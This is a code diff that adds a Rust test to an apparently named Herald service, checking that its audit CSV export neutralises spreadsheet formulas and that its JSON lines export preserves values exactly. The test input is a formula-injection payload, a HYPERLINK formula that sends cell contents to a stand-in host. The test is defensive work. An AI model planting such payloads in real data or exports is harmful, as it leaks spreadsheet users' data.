@@ -241,3 +241,37 @@ async fn the_audit_export_streams_every_record_of_a_period_in_both_formats() {
         .contains("RFC 3339"));
     s.stop().await;
 }
+
+/// A user id or notification id a spreadsheet would run as a formula comes
+/// out of the CSV export as text (a `'` inside a quoted cell, the OWASP
+/// way), and out of the JSON lines export exactly as it went in.
+#[tokio::test]
+async fn the_csv_export_neutralises_formulas_and_json_lines_keep_them_exact() {
+    let s = server().await;
+    let start = s.clock.now_ms();
+    let user = r#"=HYPERLINK("http://x/?leak="&A1)"#;
+    let in_path: String = form_urlencoded::byte_serialize(user.as_bytes()).collect();
+    send(&s, &in_path, "-1", None).await;
+    s.clock.advance(1);
+    let period = format!("from={}&to={}", rfc3339(start), rfc3339(s.clock.now_ms()));
+
+    let (status, csv) = text(&s, &format!("/api/v1/audit?{period}&format=csv")).await;
+    assert_eq!(status, 200);
+    let created = csv.lines().nth(1).expect("the created record");
+    let cells: Vec<&str> = created.split(',').collect();
+    assert_eq!(cells[2], "created", "{created}");
+    assert_eq!(cells[3], r#""'-1""#, "{created}");
+    assert_eq!(
+        cells[4], r#""'=HYPERLINK(""http://x/?leak=""&A1)""#,
+        "{created}"
+    );
+    // Herald's own numbers stay numbers.
+    assert!(cells[0].parse::<i64>().is_ok(), "{created}");
+
+    let (status, jsonl) = text(&s, &format!("/api/v1/audit?{period}")).await;
+    assert_eq!(status, 200);
+    let record: Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
+    assert_eq!(record["userId"], user);
+    assert_eq!(record["notificationId"], "-1");
+    s.stop().await;
+}
